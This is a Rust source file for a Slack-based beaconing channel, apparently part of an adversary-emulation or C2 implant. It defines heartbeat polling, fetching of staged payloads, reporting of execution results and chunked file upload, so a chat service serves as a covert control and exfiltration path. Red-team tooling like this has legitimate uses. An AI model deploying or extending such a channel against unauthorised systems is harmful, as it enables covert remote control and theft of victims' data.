//! Channel trait and the Slack implementation

use async_trait::async_trait;
use bytes::Bytes;
use palaver_proto::{frame, AgentProfile, ExecutionResult};
use tracing::debug;

use crate::config::SlackConfig;
use crate::error::ChannelError;
use crate::negotiate::{NegotiationCriteria, NegotiationOutcome};
use crate::transport::{HttpTransport, Transport};

/// Name this channel resolves under in the factory
pub const CHANNEL_NAME: &str = "slack";

/// Frame kind of heartbeat messages
pub const BEACON_KIND: &str = "beacon";

/// Frame kind of instruction messages awaited after a heartbeat
pub const INSTRUCTIONS_KIND: &str = "instructions";

/// Frame kind of result-report messages
pub const RESULTS_KIND: &str = "results";

/// Frame kind of server-staged payload messages; never deleted after a read
pub const PAYLOADS_KIND: &str = "payloads";

/// Frame kind of upload chunk messages
pub const UPLOAD_KIND: &str = "upload";

/// A beaconing channel over a chat service.
///
/// Implementations are resolved by the factory at composition time; there is
/// no self-registration. The host drives one operation at a time.
#[async_trait]
pub trait ChatChannel: Send + Sync {
    /// Channel name used for factory resolution
    fn name(&self) -> &'static str;

    /// Validate the shared secret and derive an agent identifier if the
    /// profile has none. The channel must not be used when this fails.
    async fn negotiate(
        &mut self,
        profile: &mut AgentProfile,
        criteria: &NegotiationCriteria,
    ) -> Result<NegotiationOutcome, ChannelError>;

    /// Send a heartbeat and poll for an instruction payload.
    ///
    /// `Ok(None)` means the poll attempts were exhausted without a response;
    /// the host retries on its next cycle.
    async fn beacon(&self, profile: &AgentProfile) -> Result<Option<Bytes>, ChannelError>;

    /// Fetch a server-staged payload by name via the attachment path
    async fn fetch_payload(
        &self,
        profile: &AgentProfile,
        payload_name: &str,
    ) -> Result<Option<Bytes>, ChannelError>;

    /// Report execution results for this cycle
    async fn send_results(
        &self,
        profile: &AgentProfile,
        results: Vec<ExecutionResult>,
    ) -> Result<(), ChannelError>;

    /// Upload a file to the channel in bounded chunks
    async fn upload_file(
        &self,
        profile: &AgentProfile,
        filename: &str,
        data: &[u8],
    ) -> Result<(), ChannelError>;
}

/// Slack-backed [`ChatChannel`] implementation.
///
/// Generic over the transport so tests can substitute a scripted one; the
/// default is the real HTTP transport.
pub struct SlackChannel<T: Transport = HttpTransport> {
    pub(crate) config: SlackConfig,
    pub(crate) transport: T,
}

impl SlackChannel<HttpTransport> {
    /// Create a channel over the real HTTP transport
    pub fn new(config: SlackConfig) -> Result<Self, ChannelError> {
        let transport = HttpTransport::new(config.request_timeout)?;
        Ok(Self { config, transport })
    }
}

impl<T: Transport> SlackChannel<T> {
    /// Create a channel over a custom transport
    pub fn with_transport(config: SlackConfig, transport: T) -> Self {
        Self { config, transport }
    }

    /// The configuration owned by this instance
    pub fn config(&self) -> &SlackConfig {
        &self.config
    }

    /// The transport behind this channel
    pub fn transport(&self) -> &T {
        &self.transport
    }

    pub(crate) fn bearer(&self) -> &str {
        &self.config.bearer_token
    }
}

#[async_trait]
impl<T: Transport> ChatChannel for SlackChannel<T> {
    fn name(&self) -> &'static str {
        CHANNEL_NAME
    }

    async fn negotiate(
        &mut self,
        profile: &mut AgentProfile,
        criteria: &NegotiationCriteria,
    ) -> Result<NegotiationOutcome, ChannelError> {
        self.negotiate_channel(profile, criteria)
    }

    async fn beacon(&self, profile: &AgentProfile) -> Result<Option<Bytes>, ChannelError> {
        self.run_beacon(profile).await
    }

    async fn fetch_payload(
        &self,
        profile: &AgentProfile,
        payload_name: &str,
    ) -> Result<Option<Bytes>, ChannelError> {
        if !profile.has_identity() {
            return Err(ChannelError::MissingIdentity);
        }
        debug!("Attempting to retrieve payload {}", payload_name);
        let id = format!("{}-{}", profile.paw, payload_name);
        let contents = self.fetch_attachments(PAYLOADS_KIND, &id).await?;
        match contents.first() {
            Some(encoded) => Ok(Some(frame::decode_base64(encoded)?)),
            None => Ok(None),
        }
    }

    async fn send_results(
        &self,
        profile: &AgentProfile,
        results: Vec<ExecutionResult>,
    ) -> Result<(), ChannelError> {
        self.report_results(profile, results).await
    }

    async fn upload_file(
        &self,
        profile: &AgentProfile,
        filename: &str,
        data: &[u8],
    ) -> Result<(), ChannelError> {
        self.upload_chunked(profile, filename, data).await
    }
}
